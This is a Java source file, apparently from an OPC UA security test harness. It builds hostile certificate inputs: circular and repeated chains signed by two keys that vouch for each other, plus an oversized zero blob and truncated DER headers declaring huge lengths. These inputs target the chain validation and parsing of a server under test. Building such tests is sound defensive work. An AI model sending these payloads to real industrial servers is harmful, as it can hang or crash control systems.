package dev.anodyne.opcua.attack;

import dev.anodyne.opcua.server.station.StationUnderAttack;
import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.Date;
import java.util.List;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.cert.jcajce.JcaX509v3CertificateBuilder;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;

/** Certificates that lead in circles. */
final class Certificates {
  private Certificates() {}

  /** The server's certificate. */
  static byte[] server(StationUnderAttack station) {
    return station.client().getConfig().getEndpoint().getServerCertificate().bytesOrEmpty();
  }

  /** The server's certificate by its hash, as a client names it. */
  static byte[] thumbprint(StationUnderAttack station) throws Exception {
    return MessageDigest.getInstance("SHA-1").digest(server(station));
  }

  /** Chains that no client has. */
  static List<byte[]> loops() throws Exception {
    KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
    generator.initialize(2048);
    KeyPair a = generator.generateKeyPair();
    KeyPair b = generator.generateKeyPair();
    byte[] aByB = certificate("CN=A", "CN=B", a, b);
    byte[] bByA = certificate("CN=B", "CN=A", b, a);
    byte[] leaf = certificate("CN=Leaf", "CN=A", a, a);
    return List.of(
        join(aByB, bByA),
        join(leaf, aByB, bByA),
        join(leaf, aByB, bByA, aByB),
        join(aByB, aByB),
        join(leaf, aByB, bByA, leaf, aByB, bByA, leaf, aByB),
        new byte[8000],
        new byte[] {0x30, (byte) 0x84, 0x7f, (byte) 0xff, (byte) 0xff, (byte) 0xff},
        join(leaf, new byte[] {0x30, (byte) 0x82, (byte) 0xff, (byte) 0xff}));
  }

  private static byte[] certificate(String subject, String issuer, KeyPair own, KeyPair signer)
      throws Exception {
    Instant now = Instant.now();
    return new JcaX509v3CertificateBuilder(
            new X500Name(issuer),
            BigInteger.valueOf(now.toEpochMilli()),
            Date.from(now.minusSeconds(60)),
            Date.from(now.plusSeconds(86_400)),
            new X500Name(subject),
            own.getPublic())
        .build(new JcaContentSignerBuilder("SHA256withRSA").build(signer.getPrivate()))
        .getEncoded();
  }

  private static byte[] join(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }
}
